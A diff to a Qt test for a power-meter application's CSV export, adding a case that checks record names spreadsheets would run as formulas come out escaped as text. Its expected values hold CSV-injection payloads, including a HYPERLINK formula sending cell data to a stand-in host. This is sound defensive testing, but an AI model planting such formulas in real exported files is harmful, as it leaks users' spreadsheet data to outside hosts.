@@ -199,23 +199,31 @@ private slots:
 
     // What a page shows and the history session it came from export the
     // same CSV (a live run: the same times and powers; the history keeps no
-    // meter reference nor watts of live readings).
+    // meter reference nor watts of live readings). Record names a
+    // spreadsheet would run as formulas are written as text.
     void pageAndSessionExportTheSameCsv_data()
     {
         QTest::addColumn<QStringList>("meter");
         QTest::addColumn<QString>("pageButton");
         QTest::addColumn<QStringList>("compared"); // empty: every column
-        QTest::newRow("multi-wave") << QStringList{"--kind", "5", "--records", "6"} << "multiWaveOpmBtn" << QStringList{};
+        QTest::addColumn<QStringList>("names");    // the name column, when checked
+        QTest::newRow("multi-wave") << QStringList{"--kind", "5", "--records", "6"} << "multiWaveOpmBtn" << QStringList{}
+                                    << QStringList{};
         QTest::newRow("PON") << QStringList{"--kind", "2", "--range", "1", "--records", "6"} << "ponOpmBtn"
-                             << QStringList{};
+                             << QStringList{} << QStringList{};
         QTest::newRow("live") << QStringList{"--kind", "5"} << "chartBtn"
-                              << QStringList{"time", "wavelength_nm", "power", "unit"};
+                              << QStringList{"time", "wavelength_nm", "power", "unit"} << QStringList{};
+        QTest::newRow("formula names")
+            << QStringList{"--scenario", LUMISK_SOURCE_DIR "/tests/cli/formula_names.json"} << "opmBtn" << QStringList{}
+            << QStringList{"'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'@SUM(1+1)", "'+1+2", "'-12.5",
+                           "'\tcmd", "'\r=1+1", "A1=B1"};
     }
     void pageAndSessionExportTheSameCsv()
     {
         QFETCH(QStringList, meter);
         QFETCH(QString, pageButton);
         QFETCH(QStringList, compared);
+        QFETCH(QStringList, names);
         if (pageButton == QLatin1String("chartBtn")) {
             QVERIFY(sim.start(meter));
             testsupport::setSerialPorts({sim.linkPath()});
@@ -230,6 +238,12 @@ private slots:
         }
         const QList<QStringList> shown = exportCsv([this]() { exportFromMenu(); });
         QVERIFY(shown.size() > 3);
+        if (!names.isEmpty()) {
+            QStringList written;
+            for (int row = 1; row < shown.size(); ++row)
+                written << shown.at(row).value(int(shown.first().indexOf("name")));
+            QCOMPARE(written, names);
+        }
 
         answerMessage("noBtn"); // not saved first
         button(window.get(), "historyBtn")->click();
